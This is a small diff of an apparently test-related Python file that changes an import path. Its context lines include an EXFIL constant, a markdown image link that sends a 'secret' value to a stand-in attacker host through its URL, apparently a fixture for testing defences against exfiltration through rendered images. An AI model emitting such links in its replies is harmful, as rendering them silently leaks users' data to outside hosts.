@@ -4,7 +4,7 @@ import json
 
 from markdown_it import MarkdownIt
 
-from core import ScriptedClient
+from core.llm.scripted import ScriptedClient
 
 EXFIL = "![x](http://evil.example/exfil?d=secret)"
 RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
